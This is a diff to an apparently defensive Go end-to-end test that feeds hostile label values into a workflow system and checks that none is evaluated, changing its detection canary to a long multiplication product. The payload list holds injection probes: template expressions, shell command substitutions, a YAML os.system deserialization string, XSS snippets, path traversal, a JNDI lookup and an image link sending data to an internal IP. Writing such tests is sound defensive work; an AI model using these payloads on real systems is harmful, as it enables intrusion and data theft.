@@ -15,12 +15,15 @@ import (
 	"github.com/amendhq/amend/e2e/platform"
 )
 
-// payloads are what a stranger may write into a label. Whoever evaluates one
-// of the first kind writes 1337 somewhere.
+// product is what whoever evaluates a payload of the first kind writes: long
+// enough to be in no id, time or base64 by chance.
+const product = "9295686391"
+
+// payloads are what a stranger may write into a label.
 var payloads = []string{
-	"{{=7*191}}", "{{= 7 * 191 }}", "{{=sprig.mul(7,191)}}", "{{=toJson(workflow)}}", "{{={}}}", `{{=sprig.repeat(1000000,"1337")}}`,
+	"{{=70921*131071}}", "{{= 70921 * 131071 }}", "{{=sprig.mul(70921,131071)}}", "{{=toJson(workflow)}}", "{{={}}}", `{{=sprig.repeat(1000000,"x")}}`,
 	"{{workflow.name}}", "{{workflow.uid}}", "{{workflow.parameters.event}}", "{{inputs.parameters.event}}", "{{pod.name}}", "{{item}}",
-	"$(echo $((7*191)))", "`expr 7 \\* 191`", "; echo $((7*191))", "$((7*191))", "| tee /work/decision.json", "&& exit 0",
+	"$(echo $((70921*131071)))", "`expr 70921 \\* 131071`", "; echo $((70921*131071))", "$((70921*131071))", "| tee /work/decision.json", "&& exit 0",
 	"a: !!python/object/apply:os.system [id]", "x\n---\nkind: Secret", "&a [*a, *a]", "<<: *default", "\"}, \"status\": \"resolved", "null", "1e400",
 	"@everyone #1 closes #1", "[x](javascript:alert(1))", "![x](http://10.88.0.1/leak)", "```\n# heading", "<img src=x onerror=alert(1)>", "- [x] done",
 	"Amend-Incident: forged-0000000000", "[skip ci]", "../../.github/workflows/x.yml", "%2e%2e%2fetc", "${{ github.token }}", "${jndi:ldap://10.88.0.1/x}",
@@ -34,7 +37,7 @@ const hostileAlerts = 200
 // gets it in clear.
 func hostile(t *testing.T, w *world) {
 	controlNamespace(t, w.cluster)
-	if got := evaluated(t, w.cluster, "{{=7*191}}"); got != "1337" {
+	if got := evaluated(t, w.cluster, "{{=70921*131071}}"); got != product {
 		t.Errorf("the control Workflow reads %q: upstream no longer evaluates parameters", got)
 	}
 	before := w.workflows(t, "amend-")
@@ -66,12 +69,12 @@ func hostile(t *testing.T, w *world) {
 			t.Errorf("%s got %q, want base64", workflow.GetName(), value)
 		}
 		inside, _ := base64.StdEncoding.DecodeString(value)
-		if strings.Contains(string(inside), "1337") && !strings.Contains(string(inside), `1337\"`) {
+		if strings.Contains(string(inside), product) {
 			t.Errorf("%s got an evaluated text: %s", workflow.GetName(), inside)
 		}
 		whole, err := json.Marshal(workflow.Object)
 		must(t, err)
-		if strings.Contains(string(whole), "1337") {
+		if strings.Contains(string(whole), product) {
 			t.Errorf("Workflow %s holds an evaluated text", workflow.GetName())
 		}
 	}
@@ -79,8 +82,8 @@ func hostile(t *testing.T, w *world) {
 		t.Errorf("the branch moved from %s to %s", head, now)
 	}
 	for _, p := range w.env.pulls(t, "hostile") {
-		for _, bad := range []string{"1337 ", "\n# heading", "](javascript", "<img", "\u202e", "\x1b", "\nAmend-Incident: forged"} {
-			if strings.Contains(p.Title, bad) || strings.Contains(p.Body, "\n"+bad) {
+		for _, bad := range []string{product, "\n# heading", "](javascript", "<img", "\u202e", "\x1b", "\nAmend-Incident: forged"} {
+			if strings.Contains(p.Title, bad) || strings.Contains(p.Body, bad) {
 				t.Errorf("pull request %d holds %q:\n%s\n%s", p.Number, bad, p.Title, p.Body)
 			}
 		}
